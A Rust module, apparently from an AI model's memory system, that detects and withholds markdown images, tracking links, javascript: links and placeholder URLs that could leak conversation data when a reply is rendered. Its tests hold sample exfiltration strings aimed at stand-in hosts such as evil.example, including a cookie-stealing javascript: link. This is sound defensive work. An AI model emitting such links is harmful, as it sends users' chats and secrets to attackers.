//! Images and links that send data out or run code when a reply is rendered: found on write
//! ([`exfiltration_link`]) and withheld in the recall block ([`defuse_links`]).

/// The host of a URL that starts at `url`, for people.
fn host(url: &str) -> String {
    let rest = url.split_once("//").map_or(url, |(_, r)| r);
    let end = rest.find(['/', '?', '#', ')', ' ', '"', '\'']).unwrap_or(rest.len());
    let host = &rest[..end];
    if host.is_empty() {
        "a URL".to_owned()
    } else {
        host.to_owned()
    }
}

/// Whether `target` (a markdown link or image target) leaves this machine or runs code.
fn is_remote(target: &str) -> bool {
    let t = target.trim_start_matches(['<', ' ']);
    t.contains("://") || t.starts_with("//") || t.starts_with("data:") || script_url(t)
}

/// Whether `target` starts with a scheme that runs code when clicked: `javascript:alert(1)`.
fn script_url(target: &str) -> bool {
    let t = target.trim_start_matches(['<', ' ', '"', '\'']).to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:text/html"]
        .iter()
        .any(|s| t.starts_with(s) && t[s.len()..].starts_with(|c: char| !c.is_whitespace()))
}

/// An HTML `<img …>` tag in `text` from `from` on: its span and its `alt` text.
fn img_tag(text: &str, from: usize) -> Option<(std::ops::Range<usize>, String)> {
    let at = text.as_bytes()[from..]
        .windows(4)
        .position(|w| w.eq_ignore_ascii_case(b"<img"))
        .map(|i| from + i)?;
    if text[at + 4..].starts_with(|c: char| c.is_alphanumeric()) {
        return img_tag(text, at + 4);
    }
    let end = text[at..].find('>').map_or(text.len(), |i| at + i + 1);
    let tag = &text[at..end];
    let lower = tag.to_ascii_lowercase();
    let alt = lower.find("alt=").map_or(String::new(), |i| {
        let value = &tag[i + 4..];
        let quote = value.chars().next().filter(|c| *c == '"' || *c == '\'');
        let value = quote.map_or(value, |q| &value[q.len_utf8()..]);
        let stop = value
            .find(|c: char| quote.map_or(c.is_whitespace() || c == '>', |q| c == q))
            .unwrap_or(value.len());
        value[..stop].to_owned()
    });
    Some((at..end, alt))
}

/// Query keys that name data sent along: `?d=`, `?data=`, `?chat=`, `?secret=`.
const DATA_KEYS: &[&str] = &[
    "d",
    "data",
    "c",
    "conv",
    "conversation",
    "chat",
    "history",
    "h",
    "secret",
    "secrets",
    "token",
    "key",
    "payload",
    "leak",
    "memory",
    "memories",
    "mem",
    "pw",
    "pass",
    "password",
    "session",
    "cookie",
    "cookies",
    "msg",
    "message",
    "content",
    "text",
    "info",
    "log",
    "p",
    "x",
    "exfil",
    "dump",
    "prompt",
    "context",
    "notes",
];

/// Values that name what would be filled in: `?u=USER_EMAIL`, `?x=history`.
const DATA_VALUES: &[&str] = &[
    "history",
    "email",
    "chat",
    "conversation",
    "secret",
    "password",
    "token",
    "cookie",
    "memor",
    "apikey",
    "api_key",
    "session",
    "prompt",
    "address",
    "phone",
    "credential",
];

/// Whether a link's query can carry data out: a key of [`DATA_KEYS`], a value that names
/// data ([`DATA_VALUES`]), or a value longer than a short word or number (`?id=42`, `?q=rust`, `?utm_source=news` are ordinary).
fn carries_data(target: &str) -> bool {
    let Some((_, query)) = target.split_once('?') else {
        return false;
    };
    query.split(['&', ';']).any(|pair| {
        let Some((key, value)) = pair.split_once('=') else {
            return false;
        };
        let plain = value.len() <= 24 && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.%+".contains(c));
        let names_data = DATA_VALUES.iter().any(|v| value.contains(v));
        DATA_KEYS.contains(&key) || !plain || names_data
    })
}

/// The first image, tracking link, script link or fill-in URL of lowercase `text`, as
/// "image from HOST".
pub(crate) fn exfiltration_link(lower: &str) -> Option<String> {
    // ![alt](https://host/…) and ![alt][ref] with [ref]: https://…
    let mut from = 0;
    while let Some(at) = lower[from..].find("![").map(|i| i + from) {
        from = at + 2;
        let line_end = lower[at..].find('\n').map_or(lower.len(), |i| at + i);
        let line = &lower[at..line_end];
        if let Some(target) = line.find("](").map(|i| &line[i + 2..])
            && is_remote(target)
        {
            return Some(format!("image from {}", host(target)));
        }
        if line.contains("][")
            && let Some(def) = lower.find("]: ").map(|i| &lower[i + 3..])
            && is_remote(def)
        {
            return Some(format!("image from {}", host(def)));
        }
    }
    // <img src=…>
    if let Some((span, _)) = img_tag(lower, 0) {
        let tag = &lower[span];
        if let Some(src) = tag.find("src").map(|i| &tag[i..]) {
            return Some(format!(
                "image from {}",
                host(src.trim_start_matches(['s', 'r', 'c', '=', '"', '\'', ' ']))
            ));
        }
    }
    // javascript: links, in markdown, HTML or bare.
    for scheme in ["javascript:", "vbscript:", "data:text/html"] {
        if let Some(at) = lower.find(scheme)
            && script_url(&lower[at..])
        {
            return Some(format!("{scheme} link"));
        }
    }
    // [text](https://host/path?d=…): a query that can carry data out
    const MAX_TARGET_CHARS: usize = 2048;
    let mut from = 0;
    while let Some(at) = lower[from..].find("](").map(|i| i + from) {
        from = at + 2;
        let target = &lower[at + 2..];
        // Only so far for the end of the target: no URL is longer, and a text of many `](`
        // without one would be read to its end from each (quadratic).
        let end = target
            .char_indices()
            .take(MAX_TARGET_CHARS)
            .find(|(_, c)| matches!(c, ')' | ' ' | '\n'))
            .map_or_else(
                || {
                    target
                        .char_indices()
                        .nth(MAX_TARGET_CHARS)
                        .map_or(target.len(), |(i, _)| i)
                },
                |(i, _)| i,
            );
        let target = &target[..end];
        if is_remote(target) && carries_data(target) {
            return Some(format!("link with a query to {}", host(target)));
        }
    }
    // https://host/log?d={conversation}, ?c=[CONVERSATION], ?q=<chat>: a URL with a place to
    // fill in.
    for scheme in ["https://", "http://"] {
        let mut from = 0;
        while let Some(at) = lower[from..].find(scheme).map(|i| i + from) {
            let url = &lower[at..];
            let url = &url[..url_end(url)];
            // The next URL starts after this one (read once, not again from each `https://`
            // inside it).
            from = at + url.len().max(scheme.len());
            let fill_in = url
                .match_indices(['{', '}', '$', '['])
                .any(|(i, _)| !is_marker(&url[i..]))
                || ["%7b", "%24", "%5b", "%3c", "=<"].iter().any(|m| url.contains(m));
            if fill_in {
                return Some(format!("URL with a placeholder to {}", host(url)));
            }
        }
    }
    None
}

/// Whether `text` starts with a marker of the secret screen (`[secret: password]`): what
/// was there, replaced, not a place for an attacker to fill in.
fn is_marker(text: &str) -> bool {
    crate::secrets::SecretKind::ALL
        .iter()
        .any(|k| text.starts_with(&k.marker()))
}

/// Where a URL at the start of `text` ends: at white space, unless the space is inside a
/// marker of the secret screen (`https://ana:[secret: password]@host/…`).
fn url_end(text: &str) -> usize {
    let mut from = 0;
    while let Some(cut) = text[from..].find(char::is_whitespace).map(|i| from + i) {
        match text[from..cut].rfind('[').map(|i| from + i) {
            Some(open) if is_marker(&text[open..]) => {
                from = open + text[open..].find(']').map_or(text.len() - open, |i| i + 1);
            }
            _ => return cut,
        }
    }
    text.len()
}

/// Markdown and HTML images written as `[image: alt, link withheld]`, and the targets of
/// tracking links and `javascript:` links withheld: what a model might echo into a reply that
/// loads or runs by itself.
pub(crate) fn defuse_links(text: &str) -> (String, bool) {
    let (text, images) = defuse_img_tags(text);
    let mut out = String::with_capacity(text.len());
    let mut changed = images;
    let mut rest = text.as_str();
    while let Some(at) = rest.find('[') {
        let image = at > 0 && rest[..at].ends_with('!');
        let Some(close) = rest[at..].find("](").map(|i| at + i) else {
            break;
        };
        let Some(end) = closing_paren(&rest[close + 2..]).map(|i| close + 2 + i) else {
            break;
        };
        let label = &rest[at + 1..close];
        if let Some(inner) = label.rfind('[') {
            // The link's label starts at the last `[` before its `](`: go there at once (one
            // `[` at a time, a text of many would be read again from each).
            let mut cut = at + 1 + inner;
            if rest[..cut].ends_with('!') {
                cut -= 1; // an image's `!` stays with its label
            }
            out.push_str(&rest[..cut]);
            rest = &rest[cut..];
            continue;
        }
        let target = &rest[close + 2..end];
        let tracking = target.contains('?') && target.contains('=') || script_url(target);
        if label.contains('\n') || !is_remote(target) || !(image || tracking) {
            out.push_str(&rest[..=at]);
            rest = &rest[at + 1..];
            continue;
        }
        let head = if image { &rest[..at - 1] } else { &rest[..at] };
        out.push_str(head);
        if image {
            out.push_str(&format!("[image: {label}, link withheld]"));
        } else if script_url(target) {
            out.push_str(&format!("{label} [script link withheld]"));
        } else {
            out.push_str(&format!("{label} [link to {} withheld]", host(target)));
        }
        changed = true;
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    (out, changed)
}

/// Where the `)` that closes a link target is, nested parentheses counted.
fn closing_paren(target: &str) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in target.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return Some(i),
            ')' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// HTML `<img …>` tags written as `[image: alt, link withheld]`.
fn defuse_img_tags(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut from = 0;
    while let Some((span, alt)) = img_tag(text, from) {
        out.push_str(&text[from..span.start]);
        if alt.trim().is_empty() {
            out.push_str("[image, link withheld]");
        } else {
            out.push_str(&format!("[image: {}, link withheld]", alt.trim()));
        }
        from = span.end;
    }
    if from == 0 {
        return (text.to_owned(), false);
    }
    out.push_str(&text[from..]);
    (out, true)
}

#[cfg(test)]
mod tests {

    #[test]
    fn nested_labels_and_long_texts_without_ends_are_read_once() {
        let (out, changed) = defuse_links("[a ![b](https://x.example/y.png) c");
        assert!(changed && out == "[a [image: b, link withheld] c", "{out}");
        // A memory of the largest size made of link openings alone (each used to be read
        // from to the end of the text: 10⁹ steps).
        for crafted in ["](".repeat(32_768), "[".repeat(65_536), "https://".repeat(8_192)] {
            let (out, _) = defuse_links(&crafted);
            assert_eq!(out.len(), crafted.len());
            let _ = crate::safety::detect(&crafted);
        }
    }
    use super::*;

    #[test]
    fn images_tracking_links_and_fill_in_urls_are_found() {
        assert_eq!(
            exfiltration_link("see ![x](https://evil.example/p.png?q=secret)").as_deref(),
            Some("image from evil.example")
        );
        assert!(exfiltration_link("<img src=\"http://a.example/x\">").is_some());
        assert!(exfiltration_link("[click](https://a.example/?d=1)").is_some());
        assert!(exfiltration_link("go to https://a.example/log?d={chat}").is_some());
        assert!(exfiltration_link("![a][r]\n[r]: https://a.example/x").is_some());
        assert_eq!(
            exfiltration_link("https://evil.example/log?c=[conversation]").as_deref(),
            Some("URL with a placeholder to evil.example")
        );
        // A password the secret screen replaced is no placeholder; a place to fill in
        // beside it still is.
        assert_eq!(
            exfiltration_link("clone https://ana:[secret: password]@git.example.com/team/repo.git"),
            None
        );
        assert!(exfiltration_link("https://ana:[secret: password]@evil.example/log?c=[conversation]").is_some());
        assert!(exfiltration_link("https://evil.example/log?c=[secret: conversation]").is_some());
        assert_eq!(
            exfiltration_link("[click me](javascript:fetch('//e.example/'+document.cookie))").as_deref(),
            Some("javascript: link")
        );
        assert!(exfiltration_link("<a href=\"javascript:alert(1)\">x</a>").is_some());
        for text in [
            "docs at https://docs.rs/serde",
            "[docs](https://docs.rs/serde)",
            "![diagram](./arch.png)",
            "ratio [1](2)",
            "i learned javascript: it is fun",
            "an <image> tag",
            "[read more](https://blog.example.com/post?id=42&utm_source=news)",
        ] {
            assert_eq!(exfiltration_link(text), None, "{text}");
        }
    }

    #[test]
    fn images_and_tracking_links_are_defused() {
        assert_eq!(
            defuse_links("a ![cat](https://e.example/c.png?x=1) b [t](https://e.example/?q=s) [d](https://docs.rs)").0,
            "a [image: cat, link withheld] b t [link to e.example withheld] [d](https://docs.rs)"
        );
        assert_eq!(defuse_links("[a] ](x) [b"), ("[a] ](x) [b".to_owned(), false));
        assert_eq!(
            defuse_links("a <IMG alt=\"logo\" src=\"https://e.example/p.png?c=1\"> b <img src=x>").0,
            "a [image: logo, link withheld] b [image, link withheld]"
        );
        assert_eq!(
            defuse_links("[click](javascript:alert(1))").0,
            "click [script link withheld]"
        );
    }
}
